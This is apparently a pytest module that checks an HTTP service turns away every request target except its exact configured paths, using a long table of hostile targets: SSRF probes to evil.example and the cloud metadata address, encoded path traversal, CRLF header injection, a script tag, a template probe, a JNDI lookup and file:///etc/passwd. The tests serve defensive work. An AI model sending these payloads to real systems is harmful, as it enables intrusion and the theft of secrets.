"""Request targets: whatever is not a configured key to the last byte is 404, and 400 where it is no target at all."""

import pytest
import pytest_asyncio

from tests.hostile.attack_row import Attack, Promise, carry_out, get, under_attack

pytestmark = pytest.mark.asyncio(loop_scope="module")

NO_SUCH_PROBE = {
    # how it is called: the target, each with the configured path somewhere in it or near it
    "absolute form": b"http://127.0.0.1/healthy",
    "absolute form of another host": b"http://evil.example/healthy",
    "absolute form over TLS": b"https://evil.example/healthy",
    "absolute form in capitals": b"HTTP://EVIL.EXAMPLE/healthy",
    "absolute form of the cloud's metadata": b"http://169.254.169.254/latest/meta-data/",
    "absolute form with a user": b"http://user:secret@evil.example/healthy",
    "absolute form of another scheme": b"gopher://evil.example/healthy",
    "absolute form with our own health": b"http://evil.example/-/ready",
    "scheme-relative": b"//evil.example/healthy",
    "scheme-relative without a host": b"//healthy",
    "three slashes": b"///healthy",
    "an at sign behind the path": b"/healthy@evil.example",
    "an at sign before the path": b"/@evil.example/healthy",
    "a dot segment": b"/./healthy",
    "a dot segment at the end": b"/healthy/.",
    "a parent segment": b"/x/../healthy",
    "a parent of the root": b"/../healthy",
    "a parent of our own health": b"/-/../healthy",
    "an encoded dot segment": b"/%2e/healthy",
    "an encoded parent segment": b"/x/%2E%2E/healthy",
    "half an encoded parent segment": b"/x/.%2e/healthy",
    "Tomcat's parent segment": b"/x/..;/healthy",
    "a doubly encoded parent segment": b"/x/%252e%252e/healthy",
    "an over-long encoding of a dot": b"/x/%c0%ae%c0%ae/healthy",
    "an encoded letter": b"/%68ealthy",
    "a doubly encoded letter": b"/%2568ealthy",
    "an encoded slash": b"/%2fhealthy",
    "an encoded slash at the end": b"/healthy%2f",
    "an encoded space": b"/healthy%20",
    "an encoded NUL": b"/healthy%00",
    "an encoded line end and header": b"/healthy%0d%0aX-Evil:%201",
    "an encoded line end as one character": b"/healthy%E5%98%8A%E5%98%8DX-Evil:1",
    "a broken escape": b"/healthy%",
    "a broken escape of one digit": b"/healthy%2",
    "an escape that is none": b"/healthy%zz",
    "a backslash": b"/\\healthy",
    "two backslashes": b"/\\\\evil.example/healthy",
    "a backslash at the end": b"/healthy\\",
    "a parent segment with backslashes": b"/x\\..\\healthy",
    "parameters": b"/healthy;jsessionid=1",
    "empty parameters": b"/healthy;",
    "a slash at the end": b"/healthy/",
    "capitals": b"/HEALTHY",
    "one capital": b"/Healthy",
    "a prefix": b"/health",
    "a longer path": b"/healthy.json",
    "a path below": b"/healthy/x",
    "the root": b"/",
    "two slashes alone": b"//",
    "an encoded letter of another alphabet": b"/h%C3%A9althy",
    "an ampersand": b"/healthy&x=1",
    "markup": b"/<script>alert(1)</script>",
    "a template": b"/{{7*7}}",
    "a lookup": b"/${jndi:ldap://evil.example/x}",
    "a label": b'/healthy"}%201',
    "an admin page": b"/metrics",
    "an admin page below our own health": b"/-/metrics",
    "our own health with a slash": b"/-/ready/",
    "our own health with a query": b"/-/ready?x=1",
    "our own health in capitals": b"/-/READY",
    "below our own health": b"/-/",
    "a version control folder": b"/.git/config",
    "a path of 8 KiB": b"/healthy/" + b"a" * 8000,
    "a fragment": b"/healthy#f",
    "an empty fragment": b"/healthy#",
}
QUERIES = {
    "a query": b"/healthy?x=1",
    "an empty query": b"/healthy?",
    "two question marks": b"/healthy??",
    "a query that is a URL": b"/healthy?url=http://169.254.169.254/",
    "the configured query in another case": b"/ready?FULL=1",
    "the configured query with more": b"/ready?full=1&x=1",
    "the configured query with an empty part": b"/ready?full=1&",
    "the configured query, encoded": b"/ready?%66ull=1",
    "the configured query with another value": b"/ready?full=2",
    "the configured query missing": b"/ready",
    "the configured query left empty": b"/ready?",
    "the configured query with a fragment": b"/ready?full=1#",
}
NO_TARGET = {
    "the empty target": b"",
    "a space": b" ",
    "an asterisk": b"*",
    "authority form": b"evil.example:80",
    "authority form of the app": b"127.0.0.1:8080",
    "authority form of IPv6": b"[::1]:8080",
    "an at sign": b"@evil.example/healthy",
    "no slash": b"healthy",
    "a dot before the slash": b"./healthy",
    "a backslash in place of the slash": b"\\healthy",
    "a question mark alone": b"?",
    "a query alone": b"?full=1",
    "a fragment alone": b"#",
    "a file": b"file:///etc/passwd",
    "a socket file": b"unix:/run/app.sock",
    "a scheme with one slash": b"http:/healthy",
    "a scheme without a host": b"http://",
    "a scheme with half a host": b"http://[::1/healthy",
    "a scheme with no port": b"http://x:99999/healthy",
    "NUL": b"/healthy\x00",
    "NUL in the middle": b"/hea\x00lthy",
    "control byte 1": b"/healthy\x01",
    "an escape sequence": b"/\x1b[31mhealthy",
    "DEL": b"/healthy\x7f",
    "a tab": b"/hea\tlthy",
    "a tab before": b"\t/healthy",
    "a tab behind": b"/healthy\t",
    "a vertical tab": b"/healthy\x0b",
    "a form feed": b"/healthy\x0c",
    "a bare carriage return": b"/healthy\r",
    "a bare line feed": b"/healthy\nX: y",
    "a space inside": b"/healthy x",
    "a version of its own": b"/healthy HTTP/1.1 x",
    "a NUL in the query": b"/ready?full=1\x00",
    "a control byte in the fragment": b"/healthy#\x01",
    "raw Latin-1": b"/h\xe9althy",
    "raw UTF-8": b"/h\xc3\xa9althy",
    "a combining character": b"/he\xcc\x81althy",
    "a wide letter": b"/\xef\xbd\x88ealthy",
    "a space of no width": b"/healthy\xe2\x80\x8b",
    "a space that does not break": b"/healthy\xc2\xa0",
    "a byte order mark": b"\xef\xbb\xbf/healthy",
    "bytes of no text": b"/\xff\xfe\xfd",
    "an over-long slash": b"\xc0\xafhealthy",
}
TOO_LONG = {"16 KiB": 16 * 1024, "1 MB": 1_000_000}

ATTACKS = [
    *[Attack(Promise.TARGET, name, get(target), "unknown_path") for name, target in NO_SUCH_PROBE.items()],
    *[Attack(Promise.QUERY, name, get(target), "unknown_path") for name, target in QUERIES.items()],
    *[Attack(Promise.TARGET, name, get(target), "malformed") for name, target in NO_TARGET.items()],
    *[Attack(Promise.BOUNDS, f"a path of {name}", get(b"/" + b"a" * size), "malformed", True) for name, size in TOO_LONG.items()],
    Attack(Promise.BOUNDS, "8 KiB of query", get(b"/healthy?" + b"a" * 8192), "malformed"),
    Attack(Promise.BOUNDS, "1 MB that never ends", b"GET /" + b"a" * 1_000_000, "malformed", cut_off=True),
]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def place():
    async with under_attack() as place:
        yield place


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
async def test_a_target_that_is_no_configured_key_is_turned_away(place, attack):
    await carry_out(place, attack)


async def test_no_target_of_http_1_0_fares_otherwise(place):
    for target in [*NO_SUCH_PROBE.values(), *QUERIES.values()]:
        await carry_out(place, Attack(Promise.TARGET, "", get(target, version=b"HTTP/1.0"), "unknown_path"))


async def test_no_target_asked_for_with_head_fares_otherwise(place):
    for target in [*NO_SUCH_PROBE.values(), *QUERIES.values()]:
        await carry_out(place, Attack(Promise.TARGET, "", b"HEAD" + get(target)[3:], "unknown_path"))
